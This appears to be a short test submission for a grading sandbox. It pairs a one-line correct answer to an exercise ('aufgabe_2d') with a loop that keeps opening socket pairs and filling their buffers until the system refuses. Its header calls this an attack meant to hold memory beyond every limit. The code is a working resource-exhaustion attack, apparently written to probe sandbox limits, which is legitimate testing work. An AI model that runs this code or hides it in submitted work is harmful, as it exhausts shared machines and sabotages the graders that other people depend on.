# /// attack
# tries = "keeps as much as it can in sockets and pipes, beyond every memory limit"
# total = 2
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
import os
import socket

kept = []
try:
    while True:
        kept.append(socket.socketpair())
        kept[-1][0].setblocking(False)
        try:
            while True:
                kept[-1][0].send(bytes(1 << 16))
        except BlockingIOError:
            pass
except OSError as error:
    print(len(kept), error)
